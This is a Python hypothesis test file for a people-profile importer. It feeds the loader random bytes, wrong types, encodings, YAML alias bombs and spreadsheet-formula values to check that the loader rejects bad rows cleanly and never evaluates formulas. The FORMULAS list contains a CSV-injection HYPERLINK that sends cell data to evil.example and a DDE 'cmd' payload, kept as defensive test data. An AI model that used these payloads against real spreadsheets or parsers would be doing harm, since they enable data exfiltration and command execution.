"""Property-based profile import (hypothesis): hostile bytes and rows never crash it, good rows still load.

Every format (CSV, JSON, JSONL, YAML), random bytes, wrong types, huge fields, BOMs and UTF-16, YAML
aliases, and spreadsheet formulas (kept as data, never evaluated).
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import time
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coach.errors import ProfileError
from vectorstore.profiles import FORMATS, load_profiles

PROPERTY = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
COLUMNS = ["id", "name", "title", "department", "bio", "expertise", "availability", "note"]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]

# Printable text without the CSV list separator; profile fields are stripped, so no edge whitespace.
text = (
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters=";"),
        min_size=1,
        max_size=60,
    )
    .map(str.strip)
    .filter(bool)
)
hostile_value = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=True),
    st.booleans(),
    st.lists(st.integers(), max_size=5),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
    st.text(max_size=5000),
    st.sampled_from(FORMULAS),
)


@st.composite
def good_row(draw: st.DrawFn, index: int) -> dict[str, Any]:
    return {
        "id": f"good-{index}",
        "name": draw(text),
        "title": draw(st.one_of(text, st.sampled_from(FORMULAS))),
        "bio": draw(st.sampled_from(FORMULAS)),
        "expertise": draw(st.lists(text, max_size=4)),
        "availability": draw(st.sampled_from(["open", "limited", "unavailable", " Open "])),
    }


@st.composite
def bad_row(draw: st.DrawFn, index: int) -> dict[str, Any]:
    """A row that must be rejected, with one thing wrong."""
    row: dict[str, Any] = {"id": f"bad-{index}", "name": "Someone"}
    fault = draw(st.sampled_from(["no name", "availability", "long name", "many skills", "long skill"]))
    if fault == "no name":
        row["name"] = ""
    elif fault == "availability":
        row["availability"] = draw(st.sampled_from(["busy", "maybe", "=1+1"]))
    elif fault == "long name":
        row["name"] = "N" * draw(st.integers(201, 20_000))
    elif fault == "many skills":
        row["expertise"] = [f"skill {i}" for i in range(101)]
    else:
        row["expertise"] = ["s" * 201]
    return row


@st.composite
def mixed_rows(draw: st.DrawFn) -> list[dict[str, Any]]:
    n = draw(st.integers(1, 12))
    rows = [draw(st.one_of(good_row(i), bad_row(i))) for i in range(n)]
    for row in rows:  # unknown columns, hostile values included, are kept as text in `extra`
        row["note"] = draw(st.one_of(text, st.sampled_from(FORMULAS)))
    return rows


def render(rows: list[dict[str, Any]], kind: str) -> str:
    if kind == "csv":
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=COLUMNS, extrasaction="ignore")
        writer.writeheader()
        for row in rows:
            writer.writerow({k: ";".join(v) if isinstance(v, list) else v for k, v in row.items()})
        return out.getvalue()
    if kind == "json":
        return json.dumps(rows, ensure_ascii=False)
    if kind == "jsonl":
        return "\n".join(json.dumps(row, ensure_ascii=False) for row in rows)
    return yaml.safe_dump({"profiles": rows}, allow_unicode=True)


ENCODINGS = {
    "utf-8": lambda s: s.encode("utf-8"),
    "utf-8-bom": lambda s: codecs.BOM_UTF8 + s.encode("utf-8"),
    "utf-16-bom": lambda s: codecs.BOM_UTF16_LE + s.encode("utf-16-le"),
    "utf-16-be-bom": lambda s: codecs.BOM_UTF16_BE + s.encode("utf-16-be"),
}


@PROPERTY
@given(
    rows=mixed_rows(),
    kind=st.sampled_from(["csv", "json", "jsonl", "yaml"]),
    enc=st.sampled_from(list(ENCODINGS)),
)
def test_good_rows_load_and_each_bad_row_gets_its_own_clear_error(
    tmp_path: Path, rows: list[dict[str, Any]], kind: str, enc: str
) -> None:
    path = tmp_path / f"people.{kind}"
    path.write_bytes(ENCODINGS[enc](render(rows, kind)))
    result = load_profiles(path)
    loaded = {p.id: p for p in result.profiles}
    good = {row["id"]: row for row in rows if row["id"].startswith("good-")}
    bad = {row["id"] for row in rows if row["id"].startswith("bad-")}
    assert set(loaded) == set(good)
    rejected = {
        issue.profile_id or rows[issue.row - (2 if kind == "csv" else 1)]["id"] for issue in result.rejected
    }
    assert rejected == bad, [str(i) for i in result.rejected]
    assert all(issue.reason for issue in result.rejected)
    for pid, row in good.items():  # formulas are kept exactly, as data
        assert loaded[pid].bio == row["bio"]
        assert loaded[pid].extra.get("note") == row["note"]


@PROPERTY
@given(data=st.binary(max_size=3000), kind=st.sampled_from(sorted(FORMATS)))
def test_random_bytes_never_crash_the_loader(tmp_path: Path, data: bytes, kind: str) -> None:
    path = tmp_path / f"junk{kind}"
    path.write_bytes(data)
    try:
        result = load_profiles(path)
    except ProfileError as exc:
        assert str(exc).startswith(path.name)
        return
    assert all(str(issue).startswith(f"{path.name}:") for issue in result.rejected)


@PROPERTY
@given(
    value=hostile_value,
    kind=st.sampled_from(["json", "jsonl", "yaml"]),
    field=st.sampled_from(
        ["name", "title", "expertise", "availability", "languages", "max_chats_per_month", "x"]
    ),
)
def test_wrong_types_in_any_field_are_a_row_error_or_kept_as_text(
    tmp_path: Path, value: Any, kind: str, field: str
) -> None:
    rows = [{"id": "p1", "name": "Ann", field: value}, {"id": "p2", "name": "Bo"}]
    path = tmp_path / f"people.{kind}"
    path.write_text(render(rows, kind), encoding="utf-8")
    result = load_profiles(path)
    assert "p2" in {p.id for p in result.profiles}, "a bad row never costs the good ones"
    assert len(result.profiles) + len({i.row for i in result.rejected}) == 2
    for profile in result.profiles:
        assert all(len(v) <= 2000 for v in profile.extra.values())


@PROPERTY
@given(depth=st.integers(1, 12), width=st.integers(2, 12))
def test_yaml_aliases_cannot_expand_a_small_file_into_a_huge_one(
    tmp_path: Path, depth: int, width: int
) -> None:
    lines = ['a0: &a0 ["lol"]']
    for level in range(1, depth + 1):
        refs = ", ".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} [{refs}]")
    lines.append(f"profiles:\n  - {{id: p1, name: Ann, boom: *a{depth}}}")
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n")
    sizes = [5]  # characters (plus one per node) of a0, a1, ... with every alias written out
    for _ in range(depth):
        sizes.append(1 + width * sizes[-1])
    started = time.monotonic()
    try:
        result = load_profiles(path)
    except ProfileError as exc:
        assert "aliases" in str(exc)
        assert 2 * sum(sizes) + 100 > 1_000_000, "only documents that really expand that far are refused"
    else:
        assert sizes[-1] <= 1_000_000, "a document that expands beyond the bound is refused"
        assert [p.id for p in result.profiles] == ["p1"]
        assert len(result.profiles[0].extra["boom"]) <= 2000
    assert time.monotonic() - started < 5
